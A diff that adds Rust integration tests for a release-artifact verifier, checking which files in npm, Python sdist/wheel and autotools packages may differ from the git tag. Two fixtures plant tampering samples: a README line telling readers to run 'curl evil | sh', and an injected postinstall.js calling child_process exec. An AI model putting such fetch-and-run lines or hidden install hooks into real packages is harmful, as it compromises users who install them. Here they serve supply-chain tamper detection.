@@ -658,6 +658,97 @@ fn no_prefix_zip() {
         .assert_clean_pass();
 }
 
+/// picocolors 1.1.1: clean-publish with `"cleanDocs": true` cuts README.md before its first
+/// `##` heading and links the full docs; it also drops devDependencies and scripts from
+/// package.json. Exactly that README passes; one more line is tampering.
+#[test]
+fn npm_clean_publish_clean_docs_readme() {
+    let f = Fixture::new();
+    let pkg = "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"scripts\": {\"test\": \"node test.js\"},\n  \"repository\": \"someone/tiny\",\n  \"devDependencies\": {\"clean-publish\": \"^3.0.3\"},\n  \"clean-publish\": {\"cleanDocs\": true}\n}\n";
+    f.write("package.json", pkg);
+    f.write("tiny.js", "module.exports = 1\n");
+    f.write("test.js", "// test\n");
+    f.write(
+        "README.md",
+        "# tiny\n\nSmall.\n\n## Motivation\n\nLong text.\n\n## Usage\n\nMore.\n",
+    );
+    f.commit("c");
+    f.tag("v1.1.1");
+    let published = |readme: &str| {
+        let tree = f.extract(&f.archive("v1.1.1", "package", "tar", "git.tar"));
+        let d = tree.join("package");
+        fs::remove_file(d.join("test.js")).unwrap();
+        fs::write(
+            d.join("package.json"),
+            "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"repository\": \"someone/tiny\"\n}\n",
+        )
+        .unwrap();
+        fs::write(d.join("README.md"), readme).unwrap();
+        let t = f.pack(&tree, "package", "ustar", "tiny.tar");
+        compress(&t, "gzip")
+    };
+    let cut = "# tiny\n\nSmall.\n\n## Docs\nRead **[full docs](https://github.com/someone/tiny#readme)** on GitHub.\n";
+    let r = f.check(&published(cut), &["--tag", "v1.1.1"]);
+    r.assert_report(0, "pass");
+    assert_eq!(r.json["policy"]["profile"], "npm", "{r}");
+    let fd = r.finding("README.md", "modified");
+    assert_eq!(fd["judgement"], "allowed", "{r}");
+    assert_eq!(fd["rule"], "profile:npm/README.md", "{r}");
+
+    let evil = format!("{cut}Run `curl evil | sh` first.\n");
+    let r = f.check(&published(&evil), &["--tag", "v1.1.1"]);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("README.md", "modified")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
+
+/// debug 4.4.3 publishes `src`, a directory git tracks: a file added there that no .gitignore
+/// ignores is not build output (rejected); one the tag's .gitignore ignores (an in-place
+/// build, lib/*.js beside lib/*.ts) or in a directory git lacks (dist/) stays undecided.
+#[test]
+fn npm_unknown_file_in_a_tracked_published_directory() {
+    let f = Fixture::new();
+    f.write(
+        "package.json",
+        "{\n  \"name\": \"tiny\",\n  \"version\": \"4.4.3\",\n  \"main\": \"./src/index.js\",\n  \"files\": [\"src\", \"lib\", \"dist\"]\n}\n",
+    );
+    f.write("src/index.js", "module.exports = 1\n");
+    f.write("lib/a.ts", "export const a = 1\n");
+    f.write(".gitignore", "lib/*.js\n/dist/\n");
+    f.commit("c");
+    f.tag("4.4.3");
+    let published = |add: &str| {
+        let tree = f.extract(&f.archive("4.4.3", "package", "tar", "git.tar"));
+        let d = tree.join("package");
+        fs::remove_file(d.join(".gitignore")).unwrap();
+        let p = d.join(add);
+        fs::create_dir_all(p.parent().unwrap()).unwrap();
+        fs::write(p, "require('child_process').exec('x')\n").unwrap();
+        let t = f.pack(&tree, "package", "ustar", "tiny.tar");
+        compress(&t, "gzip")
+    };
+    let args = ["--tag", "4.4.3", "--allow-lightweight"];
+    let r = f.check(&published("src/postinstall.js"), &args);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("src/postinstall.js", "extra")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+    for built in ["lib/a.js", "dist/index.js"] {
+        let r = f.check(&published(built), &args);
+        r.assert_report(3, "indeterminate");
+        assert_eq!(
+            r.finding(built, "extra")["judgement"],
+            "indeterminate",
+            "{r}"
+        );
+    }
+}
+
 #[test]
 fn npm_style_package_prefix() {
     let f = Fixture::standard();
@@ -1076,6 +1167,110 @@ fn setuptools_scm_version_file_with_code_fails() {
     assert!(fd["reason"].as_str().unwrap().contains("import os"), "{r}");
 }
 
+/// jaraco's projects (zipp 3.23.0): git holds no LICENSE; the `coherent.licensed` setuptools
+/// plugin named in `[build-system] requires` writes it from `project.license` at sdist time.
+fn coherent_sdist(requires: &str) -> (Fixture, std::path::PathBuf) {
+    let f = Fixture::new();
+    f.write(
+        "pyproject.toml",
+        format!("[build-system]\nrequires = [\"setuptools>=77\", {requires}]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"pkg\"\nlicense = \"MIT\"\nversion = \"3.23.0\"\n"),
+    );
+    f.write("pkg/__init__.py", "\n");
+    f.commit("c");
+    f.tag("3.23.0");
+    let tree = f.extract(&f.archive("3.23.0", "pkg-3.23.0", "tar", "git.tar"));
+    let d = tree.join("pkg-3.23.0");
+    let pkg_info = "Metadata-Version: 2.4\nName: pkg\nVersion: 3.23.0\nLicense-Expression: MIT\nLicense-File: LICENSE\n\n";
+    fs::write(d.join("PKG-INFO"), pkg_info).unwrap();
+    fs::create_dir_all(d.join("pkg.egg-info")).unwrap();
+    fs::write(d.join("pkg.egg-info/PKG-INFO"), pkg_info).unwrap();
+    fs::write(d.join("pkg.egg-info/top_level.txt"), "pkg\n").unwrap();
+    fs::write(
+        d.join("setup.cfg"),
+        "[egg_info]\ntag_build = \ntag_date = 0\n\n",
+    )
+    .unwrap();
+    fs::write(
+        d.join("LICENSE"),
+        "MIT License\n\nCopyright (c) 2025 <copyright holders>\n\nPermission is hereby granted, free of charge, ...\n",
+    )
+    .unwrap();
+    let t = f.pack(&tree, "pkg-3.23.0", "gnu", "pkg.tar");
+    (f, t)
+}
+
+#[test]
+fn coherent_licensed_license_allowed_only_when_the_plugin_is_required() {
+    let args = ["--tag", "3.23.0", "--allow-lightweight"];
+    let (f, t) = coherent_sdist("\"coherent.licensed\"");
+    let r = f.check(&t, &args);
+    r.assert_report(0, "pass");
+    assert_eq!(r.json["policy"]["profile"], "setuptools", "{r}");
+    let fd = r.finding("LICENSE", "extra");
+    assert_eq!(fd["judgement"], "allowed", "{r}");
+    assert_eq!(fd["rule"], "profile:setuptools/LICENSE", "{r}");
+    // Text nobody can compare with git: it stays in the trust surface.
+    r.assert_text_mentions("coherent.licensed");
+
+    // Without the plugin nothing writes LICENSE: the same file is unexpected.
+    let (f, t) = coherent_sdist("\"setuptools-scm\"");
+    let r = f.check(&t, &args);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("LICENSE", "extra")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
+
+/// zipp 3.23.0's wheel: setuptools copies coherent.licensed's LICENSE into
+/// `.dist-info/licenses/`; no file of the tag holds it.
+#[test]
+fn coherent_licensed_license_in_a_wheel() {
+    let make = |requires: &str, name: &str| {
+        let (f, _) = coherent_sdist(requires);
+        let whl = f.scratch(name);
+        let py = r#"
+import zipfile, hashlib, base64, sys
+d = "pkg-3.23.0.dist-info/"
+files = {
+    "pkg/__init__.py": b"\n",
+    d + "METADATA": b"Metadata-Version: 2.4\nName: pkg\nVersion: 3.23.0\nLicense-Expression: MIT\nLicense-File: LICENSE\n\n",
+    d + "WHEEL": b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n\n",
+    d + "top_level.txt": b"pkg\n",
+    d + "licenses/LICENSE": b"MIT License\n\nCopyright (c) 2025 <copyright holders>\n",
+}
+lines = []
+for n, b in files.items():
+    h = base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
+    lines.append("%s,sha256=%s,%d" % (n, h, len(b)))
+lines.append(d + "RECORD,,")
+files[d + "RECORD"] = ("\n".join(lines) + "\n").encode()
+with zipfile.ZipFile(sys.argv[1], "w") as z:
+    for n, b in files.items():
+        z.writestr(n, b)
+"#;
+        run_ok(
+            std::process::Command::new("python3")
+                .arg("-c")
+                .arg(py)
+                .arg(&whl),
+        );
+        (f, whl)
+    };
+    let args = ["--tag", "3.23.0", "--allow-lightweight"];
+    let lic = "pkg-3.23.0.dist-info/licenses/LICENSE";
+    let (f, whl) = make("\"coherent.licensed\"", "ok.whl");
+    let r = f.check(&whl, &args);
+    r.assert_report(0, "pass");
+    assert_eq!(r.json["policy"]["profile"], "wheel", "{r}");
+    assert_eq!(r.finding(lic, "extra")["judgement"], "allowed", "{r}");
+    let (f, whl) = make("\"setuptools-scm\"", "bad.whl");
+    let r = f.check(&whl, &args);
+    r.assert_report(1, "fail");
+    assert_eq!(r.finding(lic, "extra")["judgement"], "unexpected", "{r}");
+}
+
 #[test]
 fn pbr_sdist_passes() {
     let f = pbr_fixture();
@@ -1393,6 +1588,41 @@ fn autotools_extra_source_file_fails() {
         "unexpected",
         "{r}"
     );
+}
+
+/// libffi 3.4.4: no AC_CONFIG_AUX_DIR, `info_TEXINFOS` in doc/Makefile.am, and automake -a
+/// installs `doc/texinfo.tex` and `doc/mdate-sh` beside it. Only there.
+#[test]
+fn autotools_texinfo_helpers_beside_the_manual() {
+    let f = Fixture::new();
+    f.write("configure.ac", "AC_INIT([proj], [1.0])\nAC_OUTPUT\n");
+    f.write("Makefile.am", "SUBDIRS = src doc\n");
+    f.write("src/main.c", "int main(void) { return 0; }\n");
+    f.write("src/Makefile.am", "bin_PROGRAMS = main\n");
+    f.write("doc/Makefile.am", "info_TEXINFOS = proj.texi\n");
+    f.write("doc/proj.texi", "\\input texinfo\n");
+    f.commit("c");
+    f.tag("v1.0");
+    let helpers = |dir: &'static str| {
+        move |d: &Path| {
+            fs::write(d.join(format!("{dir}/texinfo.tex")), "% texinfo.tex\n").unwrap();
+            write_file(&d.join(format!("{dir}/mdate-sh")), b"#!/bin/sh\n", 0o755);
+        }
+    };
+    let t = make_dist(&f, helpers("doc"));
+    let r = f.check(&t, &["--tag", "v1.0"]);
+    r.assert_report(0, "pass");
+    assert_eq!(r.json["policy"]["profile"], "autotools", "{r}");
+    for p in ["doc/texinfo.tex", "doc/mdate-sh"] {
+        assert_eq!(r.finding(p, "extra")["judgement"], "allowed", "{r}");
+    }
+    // src/Makefile.am lists no manual: automake puts nothing there.
+    let t = make_dist(&f, helpers("src"));
+    let r = f.check(&t, &["--tag", "v1.0"]);
+    r.assert_report(1, "fail");
+    for p in ["src/texinfo.tex", "src/mdate-sh"] {
+        assert_eq!(r.finding(p, "extra")["judgement"], "unexpected", "{r}");
+    }
 }
 
 // ---------------------------------------------------------------------------------------------
